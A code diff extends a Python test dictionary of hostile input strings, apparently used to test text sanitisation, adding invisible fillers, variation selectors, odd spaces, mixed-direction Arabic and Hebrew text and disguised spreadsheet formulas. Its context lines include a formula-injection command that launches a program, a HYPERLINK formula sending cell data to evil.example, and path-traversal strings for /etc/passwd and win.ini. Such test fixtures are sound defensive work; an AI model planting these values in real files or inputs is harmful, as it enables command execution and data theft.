@@ -77,6 +77,10 @@ HOSTILE: dict[str, str] = {
     "terminal escapes": "\x1b[31mred\x1b]0;title\x07\x9b2J",
     "line ends": "a\nb\rc\r\nd\u2028e\u2029f\x0bg\x0ch\x85i",
     "tags and selectors": "a\U000e0041\U000e0062b\ufe0fc",
+    "fillers": "a\u3164b\u115fc\u1160d\uffa0e\u2800f\u034fg\u17b4h\u17b5i",
+    "variation selectors": "a\ufe00b\ufe0ec\u180bd\u180fe\U000e0100f\U000e01efg",
+    "blanks of other widths": "a\u00a0b\u2003c\u3000d\u1680e  f",
+    "blanks around": " \u3000a\u00a0 ",
     "private use": "a\ue000b\U0010fffdc",
     "formula of a table, a command": "=cmd|' /C calc'!A0",
     "formula of a table, a link": '=HYPERLINK("https://evil.example/?"&A1,"x")',
@@ -84,6 +88,9 @@ HOSTILE: dict[str, str] = {
     "formula of a table, plus": "+1+1",
     "formula of a table, minus": "-1-1",
     "formula of a table, tab": "\t=1+1",
+    "formula of a table, full width": "＝1+1",
+    "formula of a table, behind blanks": " \u3000=1+1",
+    "formula of a table, behind signs that can't be seen": "\u200b\u3164+1+1",
     "cells": 'a,"b";c\td',
     "path": "../../../../etc/passwd",
     "windows path": "..\\..\\C:\\Windows\\win.ini",
@@ -102,6 +109,10 @@ HOSTILE: dict[str, str] = {
     "chinese": "微信。隐私教练？《美团》（中国）",
     "emoji": "👩‍👩‍👧‍👦🇨🇳👍🏽",
     "arabic": "تطبيق",
+    "arabic and numbers": "تطبيق 2024 (5%)",
+    "arabic numbers": "١٢٣",
+    "hebrew and numbers": "12 שלום 34",
+    "hebrew behind latin": "Chat 7 שיחה 8",
 }
 
 
